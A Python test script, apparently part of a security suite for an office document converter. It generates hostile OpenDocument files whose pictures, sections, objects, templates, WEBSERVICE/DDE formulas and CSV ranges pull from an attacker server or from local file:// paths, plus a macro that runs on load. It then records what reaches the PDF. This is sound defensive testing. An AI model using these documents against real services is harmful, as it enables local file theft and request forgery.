#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Documents of somebody who is up to no good, and what becomes of them.

    hostile.py [--host H] [--port P] [--way office|path] SERVER FILE

SERVER is the address of an HTTP server of the attacker, with a path, FILE a file of the machine that the attacker wants
to read. Each
document is converted to PDF, with all its links updated, as some clients do. WAY is how
the office gets it, see corpus.py. A line of JSON for each: its name, and the
text of the PDF and the width and height of its pictures, or the error.
"""

from __future__ import annotations

import argparse
import json
import subprocess
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "clients"))

from client import add_address, connect, leave
from corpus import convert

FULL_UPDATE = 3  # com.sun.star.document.UpdateDocMode

FLAT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:ooo="http://openoffice.org/2004/office"
 xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"
 office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.{kind}">
 {head}<office:body><office:{body}>{content}</office:{body}></office:body>
</office:document>
"""
PICTURE = """<text:p>A picture.<draw:frame draw:name="p" text:anchor-type="as-char" svg:width="2cm" svg:height="2cm">
<draw:image xlink:href="{url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>"""
OBJECT = """<text:p>An object.<draw:frame draw:name="o" text:anchor-type="as-char" svg:width="5cm" svg:height="5cm">
<draw:object xlink:href="{url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>"""
SECTION = """<text:p>A section.</text:p><text:section text:name="s">
<text:section-source xlink:href="{url}" xlink:type="simple"
 text:filter-name="Text"/><text:p>nothing was loaded</text:p></text:section>"""
FORMULA = """<table:table table:name="t"><table:table-row>
<table:table-cell table:formula="{formula}" office:value-type="string"><text:p>nothing</text:p></table:table-cell>
</table:table-row></table:table>"""
RANGE = """<table:table table:name="t"><table:table-row><table:table-cell office:value-type="string">
<table:cell-range-source table:name="CSV_all" xlink:type="simple" xlink:href="{url}"
 table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,0,1" table:last-column-spanned="1"
 table:last-row-spanned="1"/><text:p>nothing was loaded</text:p></table:table-cell></table:table-row></table:table>"""
TEMPLATE = (
    '<office:meta><meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="{url}"/></office:meta>'
)
MACRO = """<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries>
<ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main
ThisComponent.Text.String = "the macro has run"
End Sub
</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>
<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"
 xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/>
</office:event-listeners></office:scripts>"""


def text(content: str, head: str = "") -> str:
    """A text document."""
    return FLAT.format(kind="text", body="text", content=content, head=head)


def sheet(content: str) -> str:
    """A spreadsheet."""
    return FLAT.format(kind="spreadsheet", body="spreadsheet", content=content, head="")


def documents(server: str, file: str) -> dict[str, str]:
    """All documents, by their names. The server is asked for a path that tells which one it was."""
    picture = Path(file).with_suffix(".png")
    return {
        "picture by http": text(PICTURE.format(url=f"http://{server}/picture.png")),
        "picture of the machine": text(PICTURE.format(url=picture.as_uri())),
        "section by http": text(SECTION.format(url=f"http://{server}/section.txt")),
        "section of the machine": text(SECTION.format(url=f"file://{file}")),
        "object by http": text(OBJECT.format(url=f"http://{server}/object.odt")),
        "object of the machine": text(OBJECT.format(url=f"file://{file}")),
        "template by http": text("<text:p>A template.</text:p>", TEMPLATE.format(url=f"http://{server}/template.ott")),
        "web service": sheet(
            FORMULA.format(formula=f"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://{server}/service&quot;)")
        ),
        "web service of the machine": sheet(
            FORMULA.format(formula=f"of:=COM.MICROSOFT.WEBSERVICE(&quot;file://{file}&quot;)")
        ),
        "DDE": sheet(FORMULA.format(formula=f"of:=DDE(&quot;soffice&quot;;&quot;{file}&quot;;&quot;A1&quot;)")),
        "other sheet": sheet(FORMULA.format(formula=f"of:='file://{file}'#$Sheet1.A1")),
        "range by http": sheet(RANGE.format(url=f"http://{server}/range.csv")),
        "range of the machine": sheet(RANGE.format(url=f"file://{file}")),
        "macro at load": text("<text:p>A macro.</text:p>", MACRO),
    }


def main() -> None:
    """Convert all documents, each on the same connection."""
    parser = argparse.ArgumentParser()
    add_address(parser)
    parser.add_argument("--way", choices=("office", "path"), default="office")
    parser.add_argument("server")
    parser.add_argument("file")
    arguments = parser.parse_args()
    context = connect(arguments.host, arguments.port)
    with tempfile.TemporaryDirectory() as directory:
        Path(directory).chmod(0o755)
        source, result = Path(directory, "source.xml"), Path(directory, "result.pdf")
        for name, content in documents(arguments.server, arguments.file).items():
            source.write_text(content)
            found: dict[str, object] = {"document": name}
            try:
                convert(context, arguments.way, source, result, UpdateDocMode=FULL_UPDATE)
                said = subprocess.run(["pdftotext", result, "-"], capture_output=True, check=True, text=True)
                listed = subprocess.run(["pdfimages", "-list", result], capture_output=True, check=True, text=True)
                found |= {
                    "text": said.stdout,
                    "pictures": [line.split()[3:5] for line in listed.stdout.splitlines()[2:]],
                }
            except Exception as error:  # noqa: BLE001 - pyuno's exceptions have no common class
                found["error"] = f"{type(error).__name__}: {error}"
            print(json.dumps(found), flush=True)
    leave(0)


if __name__ == "__main__":
    main()
